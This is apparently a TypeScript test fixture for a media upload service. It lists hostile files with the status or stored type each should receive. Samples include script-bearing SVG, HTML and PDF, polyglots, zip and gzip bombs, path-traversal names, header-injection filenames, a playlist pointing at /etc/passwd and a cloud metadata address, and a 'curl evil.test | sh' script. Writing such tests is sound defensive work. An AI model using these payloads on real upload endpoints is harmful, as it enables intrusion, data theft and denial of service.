import {
  activeContent,
  aDocx,
  aJpeg,
  aPng,
  aZip,
  type Bytes,
  gzipBomb,
  joined,
  pngChunk,
  realFile,
  withTag,
} from './hostile-bytes.ts'
import { aPdfBomb, aPdfWithScript } from './pdf.ts'

/** What becomes of a file: it is stored as this type, or refused with a status and a sentence. */
export type Fate = { storedAs: string } | { status: number; says: RegExp }
export type HostileFile = { what: string; filename: string; bytes: Bytes; fate: Fate }

const notOurs: Fate = { status: 415, says: /is not a file that can be played or shown here/ }
const noDocument: Fate = { status: 415, says: /cannot be read: it is broken, or no document/ }
const unfolds: Fate = { status: 413, says: /holds far more than its size says/ }
const unplayable: Fate = { status: 415, says: /Nothing in .* can be played/ }
const broken: Fate = { status: 415, says: /is broken\. Export the picture again/ }

const recording = realFile('demo/jfk.mp3')
const html = `<!doctype html><title>x</title>${activeContent}`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${activeContent}</svg>`
const playlist = '#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:10,\nfile:///etc/passwd\nhttp://169.254.169.254/latest\n'
const wave = joined('RIFF', [0x24, 0, 0, 0], 'WAVEfmt ', [16, 0, 0, 0, 1, 0, 1, 0, 0x40, 0x1f, 0, 0])
const pdf = `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n${html}\n%%EOF`
const tooLongChunk = aPng(
  { width: 9, height: 9 },
  { chunks: [Buffer.from([0x7f, 0xff, 0xff, 0xff, 0x74, 0x45, 0x58, 0x74])] },
)
const million = Buffer.alloc(30_000_000, 'a')

type Row = [what: string, filename: string, bytes: Bytes | string, fate: Fate]

function filesOf(rows: Row[]): HostileFile[] {
  return rows.map(([what, filename, bytes, fate]) => ({
    what,
    filename,
    bytes: typeof bytes === 'string' ? joined(bytes) : bytes,
    fate,
  }))
}

const markup = filesOf([
  ['a drawing with a script', 'logo.svg', svg, notOurs],
  ['a drawing with a script that is called PNG', 'logo.png', svg, notOurs],
  ['a drawing behind an XML declaration', 'a.jpg', `<?xml version="1.0"?>${svg}`, notOurs],
  ['a drawing behind a DOCTYPE with entities', 'a.webp', `<!DOCTYPE svg [<!ENTITY x "y">]>${svg}`, notOurs],
  ['a packed drawing', 'a.svgz', gzipBomb, notOurs],
  ['a page', 'page.html', html, notOurs],
  ['a page that is called PNG', 'page.png', html, notOurs],
  ['a page that is called MP3', 'talk.mp3', html, notOurs],
  ['a page behind a mark of UTF-16', 'a.png', joined([0xff, 0xfe], Buffer.from(html, 'utf16le')), notOurs],
  [
    'a page of XHTML',
    'a.xhtml',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>`,
    notOurs,
  ],
  ['a page with two extensions', 'a.html.png', html, notOurs],
  ['a page with an extension behind a NUL', 'a.html\u0000.png', html, notOurs],
  ['a script', 'a.js', 'alert(1)', notOurs],
  ['a saved page', 'a.mhtml', 'MIME-Version: 1.0\r\nContent-Type: multipart/related', notOurs],
  ['a style sheet', 'a.css', '@import url(javascript:alert(1))', notOurs],
  ['XML with a stylesheet', 'a.png', '<?xml-stylesheet href="javascript:alert(1)"?><a/>', notOurs],
  ['a manifest of a cache', 'a.png', 'CACHE MANIFEST\n/', notOurs],
])

const polyglots = filesOf([
  ['a GIF that is a script', 'a.gif', 'GIF89a/*\u0000*/=1;alert(1)//', notOurs],
  ['a GIF that is a script and called PNG', 'a.png', 'GIF89a=1;alert(1)//', notOurs],
  ['a BMP that is a script', 'a.jpg', 'BM=1;alert(1)//', notOurs],
  ['a PNG with a page behind its end', 'a.png', aPng({}, { behind: html }), { storedAs: 'image/png' }],
  [
    'a PNG with a page in a text',
    'a.png',
    aPng({}, { chunks: [pngChunk('tEXt', `Title\0${html}`)] }),
    {
      storedAs: 'image/png',
    },
  ],
  ['a PNG called a page', 'a.html', aPng(), notOurs],
  ['a JPEG with a page in a comment', 'a.jpg', aJpeg({ says: html }), { storedAs: 'image/jpeg' }],
  [
    'a JPEG with a page in its camera’s words',
    'a.jpg',
    aJpeg({ marker: 0xe1, says: `Exif\0\0${html}` }),
    {
      storedAs: 'image/jpeg',
    },
  ],
  ['a JPEG with a page behind its end', 'a.jpeg', aJpeg({ behind: html }), { storedAs: 'image/jpeg' }],
  ['a JPEG called PNG', 'a.png', aJpeg(), { storedAs: 'image/jpeg' }],
  [
    'a recording with a page for its title',
    'a.mp3',
    withTag('TIT2', html, recording),
    {
      storedAs: 'audio/mpeg',
    },
  ],
  ['a recording with a page behind its end', 'a.mp3', joined(recording, html), { storedAs: 'audio/mpeg' }],
  ['a document with a script and nothing else', 'a.pdf', pdf, noDocument],
  [
    'a document with a script',
    'a.pdf',
    aPdfWithScript(`app.alert(1)//${html}`),
    { storedAs: 'application/pdf' },
  ],
  ['a page that is called PDF', 'a.pdf', html, notOurs],
  ['a page that is called a Word document', 'a.docx', html, notOurs],
  ['an archive that is called a Word document', 'a.docx', aZip({ name: 'a.class' }), noDocument],
  ['a Word document that is called PDF', 'a.pdf', aDocx('<w:p/>'), notOurs],
  ['a document with a script that is called JPEG', 'a.jpg', pdf, notOurs],
  [
    'an archive behind a picture',
    'a.png',
    joined(aPng(), aZip({ name: 'a.class' })),
    {
      storedAs: 'image/png',
    },
  ],
])

const bombs = filesOf([
  ['an archive of much from little', 'a.zip', aZip({ name: 'a', content: million }), notOurs],
  ['an archive that is called PNG', 'a.png', aZip({ name: 'a', content: million }), notOurs],
  ['an archive of paths that climb', 'a.mp3', aZip({ name: '../../../etc/cron.d/x' }), notOurs],
  ['an archive that declares four gigabytes', 'a.wav', aZip({ name: 'a', declares: 0xffff_ffff }), notOurs],
  ['a packed file in a packed file', 'a.gz', gzipBomb, notOurs],
  ['a packed file that is called MP3', 'a.mp3', gzipBomb, notOurs],
  ['a Word document of much from little', 'a.docx', aDocx(Buffer.alloc(60_000_000, 'a')), unfolds],
  ['a PDF of much from little', 'a.pdf', aPdfBomb(1500), unfolds],
  [
    'a Word document that is called text',
    'a.txt',
    aDocx(million),
    {
      status: 415,
      says: /is not a text file\. Export the transcript/,
    },
  ],
  [
    'a PNG of 60,000 pixels squared',
    'a.png',
    aPng({ width: 60_000, height: 60_000, pixels: Buffer.alloc(9) }),
    {
      status: 413,
      says: /has 60000 × 60000 pixels\. Make it at most/,
    },
  ],
  ['a PNG without a size', 'a.png', aPng({ width: 0, height: 0 }), broken],
  ['a PNG whose chunk declares four gigabytes', 'a.png', aPng().fill(0xff, 8, 12), notOurs],
  ['a PNG whose later chunk declares four gigabytes', 'a.png', tooLongChunk, broken],
  ['a drive image', 'a.iso', joined(new Uint8Array(32_769), 'CD001'), notOurs],
])

const programs = filesOf([
  ['a program for Windows', 'setup.exe', joined('MZ', new Uint8Array(300)), notOurs],
  ['a program for Windows that is called WAV', 'a.wav', joined('MZ', new Uint8Array(300)), notOurs],
  ['a program for Linux', 'a', joined([0x7f], 'ELF', [2, 1, 1], new Uint8Array(300)), notOurs],
  ['a program for Macs', 'a.mp3', joined([0xcf, 0xfa, 0xed, 0xfe], new Uint8Array(300)), notOurs],
  ['a program for a shell', 'a.sh', '#!/bin/sh\ncurl evil.test | sh', notOurs],
  ['a program of Java', 'a.png', joined([0xca, 0xfe, 0xba, 0xbe], new Uint8Array(300)), notOurs],
  ['a program for browsers', 'a.wasm', joined([0], 'asm', [1, 0, 0, 0]), notOurs],
  ['a film of Flash', 'a.mp3', 'FWS\u0009', notOurs],
  ['a shortcut', 'a.url', '[InternetShortcut]\nURL=file:///c:/windows/system32/calc.exe', notOurs],
])

const recordings = filesOf([
  ['a playlist of files inside', 'a.m3u8', playlist, notOurs],
  ['a playlist that is called MP3', 'a.mp3', playlist, notOurs],
  ['a playlist that is called M4A', 'a.m4a', playlist, notOurs],
  ['a playlist in a WAVE file', 'a.wav', joined(wave, playlist), unplayable],
  ['a description of a stream', 'a.mp4', '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"/>', notOurs],
  [
    'a film',
    'a.mp4',
    new Uint8Array(realFile('src/features/media/server/fixtures/video.mp4')),
    {
      storedAs: 'video/mp4',
    },
  ],
  ['a head of a recording without the rest', 'a.mp3', new Uint8Array(recording.subarray(0, 40)), unplayable],
  [
    'a recording that ends in the middle',
    'a.mp3',
    new Uint8Array(recording.subarray(0, 30_000)),
    {
      storedAs: 'audio/mpeg',
    },
  ],
  ['a tag that declares 256 megabytes', 'a.mp3', joined('ID3', [4, 0, 0, 127, 127, 127, 127]), unplayable],
  ['a recording that is called Ogg', 'a.ogg', new Uint8Array(recording), { storedAs: 'audio/mpeg' }],
  ['noise', 'a.mp3', new Uint8Array(9000).map((_, at) => (at * 7919) % 251), notOurs],
  ['zeros', 'a.png', new Uint8Array(70_000), notOurs],
])

const names = [
  '../../../../etc/cron.d/evil.png',
  '..\\..\\windows\\system32\\evil.png',
  '/etc/passwd\u0000.png',
  'evil\u202egnp.exe.png',
  `${'long '.repeat(60)}.png`,
  'CON.png',
  '....png',
  'a"; filename="b.html.png',
  'a\r\nset-cookie: x=1.png',
  '<img src=x onerror=alert(1)>.png',
  '%2e%2e%2f%00.png',
  '🦄\ud800.png',
]

const named = filesOf(
  names.map(
    (name): Row => [
      `a picture called ${JSON.stringify(name).slice(0, 40)}`,
      name,
      aPng(),
      { storedAs: 'image/png' },
    ],
  ),
)

/** Files that have run, filled or confused something somewhere, each with what becomes of it here. */
export const hostileFiles: Record<string, HostileFile[]> = {
  markup,
  'files of two kinds': polyglots,
  bombs,
  programs,
  'recordings that are none': recordings,
  names: named,
}
